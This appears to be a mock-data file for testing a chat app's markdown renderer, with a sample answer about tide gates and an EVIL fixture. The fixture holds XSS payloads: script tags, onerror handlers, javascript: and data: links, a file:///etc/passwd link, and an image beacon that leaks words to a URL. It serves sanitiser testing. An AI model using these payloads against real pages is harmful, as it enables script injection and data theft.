// What the mock says: everything that an answer can hold.

export const THOUGHT = `The reader asks about tide gates. I should explain the flap, the hinge and the two water levels, then give a table,
a bit of code and a list. **Keep it short.**

- the outside level decides
- nothing has to be powered
`;

export const EVERYTHING = `A **tide gate** is a flap in a sea wall: water leaves freely, and when the tide turns *it closes by itself*.

## How it works

1. At low tide the water inside stands higher and pushes the flap open.
2. When the tide turns, the outside pushes back.
   - the hinge does the rest
   - no pump, no power
3. See [the encyclopedia](https://en.wikipedia.org/wiki/Tide_gate "Tide gate") for more, or write to [us](mailto:ana@example.org).

\`\`\`python
def is_open(inside_m: float, outside_m: float) -> bool:
    """A flap needs no opinion, only two levels, and here is a line that is much longer than any phone is wide."""
    return inside_m > outside_m
\`\`\`

| Level inside | Level outside | Flap | Why, in one sentence that takes some room |
|---|---|---|---|
| 2.0 m | 1.2 m | open | the water inside pushes |
| 2.0 m | 2.6 m | shut | the sea pushes, and the sea is larger than the ditch |

> The sea is not asked for its opinion.

Inline \`code\`, ~~a mistake~~, https://example.org/a/very/long/address/that/goes/on/and/on/and/on/until/it/has/to/wrap/somewhere and
Donaudampfschifffahrtselektrizitaetenhauptbetriebswerkbauunterbeamtengesellschaftswitwenrentenauszahlungsstelle.

- [x] written
- [ ] read

---

That is all.
`;

export const EVIL = `<img src=x onerror="document.title='owned'"> <script>document.title = "owned"</script>

[script](javascript:document.title='owned') [spaced]( javascript:alert(1)) [JaVa](JaVaScRiPt:alert(1))
[data](data:text/html,<script>1</script>) [file](file:///etc/passwd) [blob](blob:https://example.org/1) [relative](/account)
[angle](<javascript:alert(1)>) [good](https://example.org/good) [place](#place)

![exfiltration](https://example.org/leak?words=secret) ![](https://example.org/leak) [![both](https://example.org/i.png)](https://example.org/)

\`\`\`"><script>alert(1)</script>
code
\`\`\`
`;
